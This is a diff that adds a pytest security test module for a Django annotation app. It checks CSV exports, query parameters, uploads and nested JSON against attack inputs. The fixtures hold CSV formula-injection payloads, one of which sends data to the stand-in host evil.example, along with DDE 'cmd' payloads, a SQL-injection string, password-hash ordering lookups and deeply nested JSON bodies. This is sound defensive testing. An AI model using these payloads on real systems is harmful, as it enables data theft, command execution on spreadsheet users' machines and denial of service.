@@ -1,0 +1,446 @@
+"""Attack corpus (server side): CSV formula injection in every CSV the app serves, hostile
+ordering/filter parameters, oversize uploads and deeply nested JSON, NUL bytes and invalid
+encodings, open redirects on ``next=``, CSRF on every POST, session fixation and rotation,
+login throttling, and the mass-assignment cases tests/coding/test_api.py does not cover.
+
+Stored XSS is rendered in Chromium in test_browser_attacks.py. SSRF on endpoint base URLs
+is tests/transcripts/test_ssrf.py; API mass assignment on studies, drafts and submits is
+tests/coding/test_api.py (test_*mass_assignment*); the API CSRF baseline for one route is
+test_api.py::test_session_writes_need_csrf (here: every write route).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+
+import pytest
+from django.contrib.auth import get_user_model
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.urls import reverse
+from rest_framework.test import APIClient
+
+from coding import exports
+from coding.models import Assignment, Item, Membership, Reconciliation, Study
+from coding.services import (
+    items_import,
+    reconciliation_decide,
+    rubric_create_from_data,
+    score_submit,
+    study_create,
+    study_lock,
+    study_open,
+    study_unblind,
+)
+from tests.coding import test_api_matrix
+from tests.factories import UserFactory
+from tests.security.conftest import World, parse_page
+from tests.security.test_access_matrix import (
+    EXPECTED,
+    GENERATION_API,
+    all_routes,
+    call,
+    html_routes,
+    url_for,
+)
+
+TRIGGERS = tuple("=+-@\t\r")
+NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
+INJECTIONS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def body_of(response) -> bytes:
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
+def role_for_get(name: str) -> str | None:
+    """A persona that gets 200 on the route (the one whose view has the most to show)."""
+    row = EXPECTED[name]
+    for persona in ("lead", "coder_a", "adjudicator", "other_lead", "outsider", "anonymous"):
+        if row.get[persona] == 200:
+            return persona
+    return None
+
+
+# --- CSV formula injection --------------------------------------------------------------------
+
+
+@pytest.fixture
+def hostile(personas):
+    """A locked, unblinded study where every user-controlled text reaching a CSV is hostile:
+    rubric codes and names, coder usernames, ids, metadata, rationales, notes, file names,
+    and benchmark-style document titles (for the audit matrix)."""
+    p = personas
+    rubric = rubric_create_from_data(
+        data={
+            "name": "=Rubric",
+            "dimensions": [
+                {"code": "=D1", "name": "+Spec", "levels": [{"value": -1}, {"value": 0}]},
+                {"code": "@D2", "name": "-Proc", "levels": [{"value": 0}, {"value": 1}]},
+            ],
+        },
+        by=p.lead,
+    )
+    study = study_create(name=INJECTIONS[0], rubric=rubric, by=p.lead, description=INJECTIONS[1])
+    coders = [UserFactory(username="@mallory"), UserFactory(username="+eve")]
+    for coder in coders:
+        Membership.objects.create(study=study, user=coder, role=Membership.Role.CODER)
+    Membership.objects.create(study=study, user=p.adjudicator, role=Membership.Role.ADJUDICATOR)
+    hostile_meta = {
+        "model": "=cmd|' /C calc'!A0",
+        "scaffold": "-C1",
+        "prompt": "+P1",
+        "specification": "@under",
+        "run_id": "=run",
+    }
+    records = [
+        {"id": f"={i}", "messages": [{"role": "user", "content": "=1+1"}], **hostile_meta}
+        for i in range(2)
+    ]
+    records.append({"id": "-doc", "title": INJECTIONS[2], "text": "A benchmark.", **hostile_meta})
+    items_import(study=study, records=records, by=p.lead, source="=import.jsonl")
+    study_open(study=study, by=p.lead)
+    study.refresh_from_db()
+    for n, coder in enumerate(coders):
+        for a in Assignment.objects.filter(item__study=study, coder=coder).select_related("item"):
+            values = {
+                "=D1": {"value": -1 if n == 0 else 0, "rationale": INJECTIONS[(n + 3) % 6]},
+                "@D2": {"value": 1, "rationale": INJECTIONS[(n + 4) % 6]},
+            }
+            score_submit(assignment=a, values=values, expected_version=a.version, by=coder)
+    dimension = rubric.dimensions.get(code="=D1")
+    for item in Item.objects.filter(study=study):
+        if not Reconciliation.objects.filter(item=item, dimension=dimension).exists():
+            reconciliation_decide(
+                item=item,
+                dimension=dimension,
+                value=-1,
+                method="adjudicated",
+                note=INJECTIONS[5],
+                by=p.adjudicator,
+            )
+    study_lock(study=study, by=p.lead)
+    study_unblind(study=study, by=p.lead, reason=INJECTIONS[3])
+    study.refresh_from_db()
+    return study
+
+
+def csv_urls(study: Study) -> dict[str, list[str]]:
+    """Every route that serves CSV (from the resolver), with each export kind filled in."""
+    urls: dict[str, list[str]] = {}
+    for route in all_routes():
+        api_export = route.route.startswith("api/") and "/exports/" in route.route
+        if not (route.route.endswith(".csv") or api_export) or "provenance" in route.name:
+            continue
+        kinds = exports.KINDS if "kind" in route.converters else [None]
+        urls[route.name] = [
+            reverse(
+                route.name,
+                kwargs={"study_id": study.pk} | ({"kind": kind} if kind else {}),
+            )
+            for kind in kinds
+        ]
+    return urls
+
+
+def unsafe_cells(text: str) -> list[str]:
+    return [
+        cell
+        for row in csv.reader(io.StringIO(text, newline=""))
+        for cell in row
+        if cell.startswith(TRIGGERS) and not NUMBER.match(cell)
+    ]
+
+
+def test_every_csv_export_neutralises_formulas(hostile, personas, client):
+    urls = csv_urls(hostile)
+    assert set(urls) >= {
+        "coding:design-matrix",
+        "coding:export-csv",
+        "audit:agreement-csv",
+        "audit:audit-matrix-csv",
+        "api-export-csv",
+    }, sorted(urls)
+    client.force_login(personas.lead)
+    checked = 0
+    for name, url_list in urls.items():
+        for url in url_list:
+            response = client.get(url)
+            assert response.status_code == 200, url
+            assert response["Content-Type"].startswith("text/csv"), url
+            text = body_of(response).decode("utf-8")
+            assert not unsafe_cells(text), (url, unsafe_cells(text))
+            cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
+            neutralised = [c for c in cells if c[:1] == "'" and c[1:2] in "=+-@\t\r"]
+            assert neutralised, f"{url}: no hostile text reached this file; the check is moot"
+            checked += 1
+    assert checked >= len(exports.KINDS) * 2 + 3
+
+
+def test_numbers_are_not_prefixed(hostile, personas, client):
+    """Negative values (-1 on the hostile rubric) stay numbers in long and wide exports."""
+    client.force_login(personas.lead)
+    for kind, column in (("long", "value"), ("wide", "=D1")):
+        response = client.get(reverse("coding:export-csv", args=[hostile.pk, kind]))
+        text = b"".join(response.streaming_content).decode()
+        rows = list(csv.DictReader(io.StringIO(text, newline="")))
+        key = column if column in rows[0] else "'" + column
+        assert "-1" in {r[key] for r in rows}, (kind, rows[0])
+
+
+# --- ordering / filter parameters -------------------------------------------------------------
+
+HOSTILE_PARAMS = {
+    "ordering": "coder__password",
+    "order_by": "-coder__password",
+    "sort": "coder__password",
+    "o": "item__study__memberships__user__password",
+    "dimension": "__class__",
+    "status": "__class__",
+    "min_spread": "-1",
+    "page": "__class__",
+    "coder": "__class__",
+    "coder__password__startswith": "md5",
+    "item__conditionkey__model": "gpt",
+    "fields": "password",
+    "kind": "__class__",
+    "benchmark": "__class__",
+    "q": "' OR 1=1 --",
+    "limit": "-1",
+    "offset": "-5",
+    "upto": "-1",
+    "format": "__class__",
+}
+
+
+def _secrets(world: World) -> list[str]:
+    users = get_user_model().objects.all()
+    return [u.password for u in users] + ["__class__"]
+
+
+def test_hostile_parameters_on_html_pages_are_ignored(world):
+    """Every GET page, for a persona who may see it: same status as without parameters,
+    no 500, nothing reflected (password hashes, dunder names)."""
+    secrets = _secrets(world)
+    failures, checked = [], 0
+    for route in html_routes():
+        persona = role_for_get(route.name)
+        if persona is None or route.name in ("logout",):
+            continue
+        client = world.client(persona)
+        url = url_for(world, route.name, EXPECTED[route.name])
+        plain = call(client, "get", url)
+        attacked = call(client, "get", url, HOSTILE_PARAMS)
+        checked += 1
+        if attacked.status_code != plain.status_code:
+            failures.append(f"{url}: {attacked.status_code} (plain {plain.status_code})")
+            continue
+        body = b"".join(attacked.streaming_content) if attacked.streaming else attacked.content
+        leaked = [s for s in secrets if s.encode() in body]
+        if leaked:
+            failures.append(f"{url}: reflects {leaked}")
+    assert checked >= 45
+    assert not failures, "\n".join(failures)
+
+
+def test_reconciliation_queue_filters_are_whitelisted(world):
+    """?dimension=__class__ / ?status=__class__ are dropped: the page equals the default."""
+    from tests.security.test_access_matrix import unmasked
+
+    client = world.client("adjudicator")
+    url = reverse("coding:reconcile-queue", args=[world.study.pk])
+    plain = call(client, "get", url)
+    for params in (
+        {"dimension": "__class__"},
+        {"dimension": "D1__class__", "status": "__class__"},
+        {"status": "all__class__", "min_spread": "x"},
+        {"dimension": "pk"},
+        {"ordering": "-item__public_code"},
+    ):
+        attacked = call(client, "get", url, params)
+        assert attacked.status_code == 200
+        assert unmasked(attacked.content) == unmasked(plain.content), params
+    assert world.disputed[0].encode() in plain.content  # the page does list the item
+
+
+def stable(value):
+    """JSON without timestamps (``*_at`` keys), which differ between two requests."""
+    if isinstance(value, dict):
+        return {k: stable(v) for k, v in value.items() if not k.endswith("_at") and k != "at"}
+    if isinstance(value, list):
+        return [stable(v) for v in value]
+    return value
+
+
+def test_hostile_parameters_on_api_lists_are_ignored(world):
+    """Every API GET route for a persona who may read it: identical JSON, no 500."""
+    kwargs = world.kwargs() | {"code": world.disputed[0]}
+    secrets = _secrets(world)
+    readers = {
+        name: table
+        for (name, method), table in {**test_api_matrix.EXPECTED, **GENERATION_API}.items()
+        if method == "get"
+    }
+    routes = {r.name: r for r in test_api_matrix.api_routes()}
+    checked = 0
+    for name, table in readers.items():
+        persona = next((p for p in ("lead", "coder_a", "adjudicator") if table[p] == 200), None)
+        if persona is None:
+            continue
+        client = APIClient()
+        client.force_login(world.user(persona))
+        route = routes[name]
+        url = reverse(name, kwargs={k: kwargs[k] for k in route.pattern.pattern.converters})
+        plain = client.get(url)
+        # ?format= is DRF's renderer switch (an unknown one is a 404); everything else counts.
+        attacked = client.get(url, {k: v for k, v in HOSTILE_PARAMS.items() if k != "format"})
+        assert plain.status_code == 200, url
+        assert attacked.status_code in (200, 400), (url, attacked.status_code)  # ignored or refused
+        body = b"".join(attacked.streaming_content) if attacked.streaming else attacked.content
+        assert not [s for s in secrets if s.encode() in body], url
+        json_body = attacked["Content-Type"].startswith("application/json")
+        if attacked.status_code == 200 and json_body:
+            assert stable(attacked.json()) == stable(plain.json()), url
+        checked += 1
+    assert checked >= 15
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="coding/views_reconcile.py export_csv: '²'.isdigit() is True but int('²') raises",
+)
+def test_unicode_digits_in_upto_are_not_a_500(world):
+    client = world.client("lead")
+    client.raise_request_exception = False
+    url = reverse("coding:export-csv", args=[world.study.pk, "events"])
+    assert client.get(url, {"upto": "²"}).status_code in (200, 400)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="coding/views_reconcile.py _posted: expected_<code>='²' passes isdigit, int() raises",
+)
+def test_unicode_digits_in_reconcile_expected_id_are_not_a_500(world):
+    client = world.client("adjudicator")
+    client.raise_request_exception = False
+    url = reverse("coding:reconcile-item", args=[world.study.pk, world.disputed[0]])
+    body = {"value_D1": "1", "method_D1": "adjudicated", "note_D1": "x", "expected_D1": "²"}
+    assert client.post(url, body).status_code in (302, 400, 409)
+
+
+# --- oversize uploads and deeply nested JSON --------------------------------------------------
+
+
+def upload_forms(world: World) -> dict[str, tuple[str, str, dict]]:
+    """Every form with a file input on any page (route name -> (persona, action, fields))."""
+    found = {}
+    for route in html_routes():
+        persona = role_for_get(route.name)
+        if persona is None:
+            continue
+        url = url_for(world, route.name, EXPECTED[route.name])
+        response = call(world.client(persona), "get", url)
+        if response.streaming or "html" not in response.get("Content-Type", ""):
+            continue
+        for form in parse_page(response.content.decode()).forms:
+            if form.file_fields:
+                assert form.method == "post" and form.enctype == "multipart/form-data", url
+                found[route.name] = (persona, form.action or url, form)
+    return found
+
+
+def test_oversize_uploads_get_413_on_every_upload_form(world, settings):
+    forms = upload_forms(world)
+    assert set(forms) >= {"coding:study-import", "coding:rubric-list", "audit:rank-instability"}
+    settings.MAX_UPLOAD_BYTES = 4096
+    for name, (persona, action, form) in forms.items():
+        data = dict(form.fields)
+        for field_name in form.file_fields:
+            data[field_name] = SimpleUploadedFile("big.jsonl", b"x" * 8192)
+        response = call(world.client(persona), "post", action, data)
+        assert response.status_code == 413, (name, response.status_code)
+        assert b"Upload too large" in response.content
+        small = call(world.client(persona), "post", action, dict(form.fields))
+        assert small.status_code != 413, name  # the limit, not the form, refused it
+
+
+def test_oversize_api_bodies_get_413(world, settings):
+    settings.MAX_UPLOAD_BYTES = 4096
+    client = APIClient()
+    client.force_login(world.p.lead)
+    url = reverse("api-study-import", args=[world.study.pk])
+    big = SimpleUploadedFile("big.jsonl", b"x" * 8192)
+    response = client.post(url, {"file": big}, format="multipart")
+    assert response.status_code == 413 and "Upload too large" in response.json()["detail"]
+    response = client.post(reverse("api-study-list"), {"name": "x" * 8192}, format="json")
+    assert response.status_code == 413
+
+
+def nested(depth: int) -> str:
+    return "[" * depth + "]" * depth
+
+
+def test_deeply_nested_json_uploads_are_refused_cleanly(world):
+    client = world.client("lead")
+    deep = nested(100_000).encode()
+    upload = SimpleUploadedFile("r.json", deep)
+    rubric = client.post(reverse("coding:rubric-list"), {"file": upload})
+    assert rubric.status_code == 200 and b"not valid UTF-8 JSON" in rubric.content
+    line = b'{"id": "x", "messages": ' + deep + b"}"
+    imported = client.post(
+        reverse("coding:study-import", args=[world.study.pk]),
+        {"file": SimpleUploadedFile("deep.jsonl", line)},
+    )
+    assert imported.status_code == 400
+    assert Item.objects.filter(study=world.study, external_id="x").count() == 0
+    api = APIClient()
+    api.force_login(world.p.lead)
+    response = api.post(
+        reverse("api-study-import", args=[world.study.pk]),
+        {"file": SimpleUploadedFile("deep.jsonl", line)},
+        format="multipart",
+    )
+    assert response.status_code == 400
+
+
+def api_write_routes() -> list[tuple[str, str, object]]:
+    routes = test_api_matrix.api_routes()
+    return [(r.name, m, r) for r in routes for m in r.methods if m in ("post", "put", "patch")]
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="DRF's JSONParser catches ValueError only; json.load raises RecursionError -> 500",
+)
+def test_deeply_nested_json_api_bodies_are_400(world):
+    client = APIClient()
+    client.force_login(world.p.lead)
+    client.raise_request_exception = False
+    kwargs = world.kwargs() | {"code": world.disputed[0]}
+    failures = []
+    for name, method, route in api_write_routes():
+        url = reverse(name, kwargs={k: kwargs[k] for k in route.pattern.pattern.converters})
+        response = getattr(client, method)(url, nested(50_000), content_type="application/json")
+        if response.status_code >= 500:
+            failures.append(f"{method.upper()} {url}: {response.status_code}")
+    assert not failures, "\n".join(failures)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="transcripts/forms.py RunForm.clean_extra catches JSONDecodeError, not RecursionError",
+)
+def test_deeply_nested_json_in_run_extra_is_a_form_error(world):
+    client = world.client("lead")
+    client.raise_request_exception = False
+    url = reverse("transcripts:run-create")
+    response = client.post(url, {"name": "x", "extra": nested(50_000)})
+    assert response.status_code == 200
